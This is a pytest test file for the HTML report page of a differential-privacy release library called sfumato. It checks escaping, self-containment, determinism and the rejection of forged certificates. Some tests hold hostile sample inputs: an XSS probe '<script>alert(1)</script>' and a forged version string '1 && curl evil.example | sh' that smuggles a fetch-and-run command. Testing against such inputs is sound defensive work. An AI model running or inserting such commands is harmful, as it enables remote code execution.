import re
from html.parser import HTMLParser

import pytest

import sfumato as sf
from sfumato.privacy.release import Release
from sfumato.report.page import UnsoundRelease, report_page
from sfumato.sections import Section, Text

VOID = {"meta", "link", "img", "br", "hr", "input"}


class Outline(HTMLParser):
    """Collects tags, attributes and visible text, and checks that tags are balanced."""

    def __init__(self):
        super().__init__()
        self.open, self.tags, self.attributes, self.text = [], [], [], []

    def handle_starttag(self, tag, attributes):
        self.tags.append(tag)
        self.attributes += attributes
        if tag not in VOID:
            self.open.append(tag)

    def handle_startendtag(self, tag, attributes):
        self.tags.append(tag)
        self.attributes += attributes

    def handle_endtag(self, tag):
        assert self.open.pop() == tag

    def handle_data(self, data):
        self.text.append(data)


def outline(page):
    parsed = Outline()
    parsed.feed(page)
    assert parsed.open == []
    return parsed


def words(page):
    return " ".join(" ".join(outline(page).text).split())


def test_the_report_is_added_to_the_release_and_verify_tolerates_it(saved):
    path = sf.save_report(saved)
    assert path == saved / "report.html"
    assert sf.verify(saved).passed


def test_the_page_needs_nothing_from_outside(saved):
    page = sf.save_report(saved).read_text(encoding="utf-8")
    parsed = outline(page)
    assert not {"script", "link", "img", "iframe", "object"} & set(parsed.tags)
    for name, value in parsed.attributes:
        assert name not in ("src", "srcset", "onload", "onclick")
        if name in ("href", "xlink:href"):
            assert value.startswith("#")
    assert "@import" not in page
    assert not re.search(r"url\((?!#)", page)


def test_every_text_of_the_data_is_escaped(saved):
    page = sf.save_report(saved).read_text(encoding="utf-8")
    assert "<script" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page


def test_the_page_says_what_was_released_what_is_promised_and_how_to_check_it(saved):
    release = sf.load(saved)
    text = words(sf.save_report(saved).read_text(encoding="utf-8"))
    assert release.words() in text
    assert release.guarantee.words().split(". ")[0].replace("'", "’") in text.replace("'", "’")
    assert "sfumato verify THIS-FOLDER" in text
    assert "For an ethics board" in text
    assert "not booked in a ledger" in text
    assert "From: certificate.json, plan" in text
    for step in release.plan.steps:
        assert step.noise in text and step.error in text


def test_the_same_release_gives_the_same_page(saved):
    first = sf.save_report(saved).read_bytes()
    assert sf.save_report(saved).read_bytes() == first


def test_a_damaged_release_gets_no_page(saved):
    counts = saved / "marginals.csv"
    counts.write_bytes(counts.read_bytes().replace(b"age", b"Age", 1))
    with pytest.raises(UnsoundRelease, match="failed its check"):
        sf.save_report(saved)
    assert not (saved / "report.html").exists()


def test_a_page_can_go_elsewhere(saved, tmp_path):
    path = sf.save_report(saved, tmp_path / "pages" / "mine.html")
    assert path.is_file() and not (saved / "report.html").exists()


def test_a_release_that_is_not_saved_needs_a_path(table, tmp_path):
    release = sf.Histogram(epsilon=1).release(table)
    with pytest.raises(ValueError, match="give the path of a file"):
        sf.save_report(release)
    assert sf.save_report(release, tmp_path / "page.html").is_file()


def test_a_rehearsal_is_marked_as_not_private(table, tmp_path):
    release = sf.rehearse(sf.Marginals(epsilon=1), table.public, rows=50)
    text = words(sf.save_report(release, tmp_path / "page.html").read_text(encoding="utf-8"))
    assert "Not private. Do not publish." in text
    assert "must not be published" in text
    assert "belief before" not in text


def test_a_gaussian_release_is_explained_by_tests_and_names_rho(table, tmp_path):
    release = sf.Marginals(epsilon=1, delta="1e-9").release(table)
    text = words(sf.save_report(release, tmp_path / "page.html").read_text(encoding="utf-8"))
    assert "false alarms" in text and "ρ ≈" in text
    assert "odds change by at most" not in text.split("What was released")[0]


def test_the_ledger_entry_and_the_signature_are_on_the_page(table, tmp_path):
    from sfumato.privacy import keys

    key = tmp_path / "key.pem"
    public = keys.generate(key)
    ledger = sf.Ledger.create(tmp_path / "x.ledger", allow=sf.PureDP(3))
    release = sf.Histogram(epsilon=1, columns=["age"]).release(table, ledger=ledger)
    release.save(tmp_path / "release", key=key)
    text = words(sf.save_report(tmp_path / "release").read_text(encoding="utf-8"))
    assert "x.ledger#1" in text and ledger.identity in text
    assert keys.fingerprint(public) in text


def test_what_was_inferred_from_the_data_is_marked(tmp_path):
    import polars as pl

    frame = pl.DataFrame({"sex": ["f", "m"] * 20, "age": [20, 30] * 20})
    schema = sf.Schema.draft(frame).confirm(unit="row")
    release = sf.Marginals(epsilon=1).release(sf.Table(frame, schema))
    text = words(sf.save_report(release, tmp_path / "page.html").read_text(encoding="utf-8"))
    for assumption in release.provenance.public.assumptions():
        assert assumption[1:] in text
    for column in schema.columns:
        assert ", ".join(column.inferred) in text


def test_a_session_gets_a_page_of_its_answers(table, tmp_path):
    with sf.Questions(epsilon=1, questions=3).open(table) as session:
        session.ask({"group": "a & b"})
        release = session.close()
    text = words(sf.save_report(release, tmp_path / "page.html").read_text(encoding="utf-8"))
    assert "The answers" in text and f"{release.answers[0][1].count:,}" in text


class Unheard(Release):
    kind = "unheard of"

    def files(self):
        return {"x.csv": b"x\n"}

    def agrees(self, files):
        return files == self.files()

    def words(self):
        return "Something nobody has heard of."

    def plot(self):
        from matplotlib.figure import Figure

        figure = Figure()
        figure.subplots().plot([1, 2])
        return figure


@pytest.fixture
def unheard(table):
    release = Unheard()
    release._provenance = sf.Histogram(epsilon=1).release(table).provenance
    return release


def test_a_release_without_sections_of_its_own_shows_its_picture(unheard, tmp_path):
    page = sf.save_report(unheard, tmp_path / "page.html").read_text(encoding="utf-8")
    assert "A picture of it" in page and "<svg" in page


def test_a_page_shows_the_sections_of_the_release_escaped(unheard, monkeypatch):
    from sfumato.privacy.certificate import certify

    section = Section("own", "My <own> part", (Text("1 < 2"),), "nowhere & everywhere")
    monkeypatch.setattr(Unheard, "sections", lambda release: (section,))
    page = report_page(unheard, certify(unheard, unheard.files()), None)
    assert "My &lt;own&gt; part" in page and "1 &lt; 2" in page and "nowhere &amp; every" in page


def test_a_forged_version_never_becomes_part_of_a_command(unheard):
    from sfumato.privacy.certificate import certify

    forged = certify(unheard, unheard.files())
    assert "made by version" in words(report_page(unheard, forged, None))
    forged["versions"]["sfumato"] = "1 && curl evil.example | sh"
    text = words(report_page(unheard, forged, None))
    assert "$ pip install -e . $ sfumato verify" in text and "made by version" not in text


@pytest.mark.parametrize(
    ("part", "value"),
    [
        ("versions", None),
        ("versions", ["sfumato"]),
        ("versions", {"sfumato": None}),
        ("files", None),
        ("files", {"x": 7}),
        ("parameters", None),
        ("code", 7),
        ("ledger", "patients.ledger#1"),
        ("ledger", {"reference": "x#1"}),
        ("signature", {"fingerprint": None}),
        ("signature", 7),
    ],
)
def test_a_malformed_certificate_gets_no_page(unheard, part, value):
    from sfumato.privacy.certificate import certify

    forged = {**certify(unheard, unheard.files()), part: value}
    with pytest.raises(UnsoundRelease, match=f"its {part} cannot be read; no report"):
        report_page(unheard, forged, None)


@pytest.mark.parametrize("part", ["versions", "files", "parameters", "code"])
def test_a_certificate_without_a_part_gets_no_page(unheard, part):
    from sfumato.privacy.certificate import certify

    forged = certify(unheard, unheard.files())
    del forged[part]
    with pytest.raises(UnsoundRelease, match=f"its {part} cannot be read; no report"):
        report_page(unheard, forged, None)
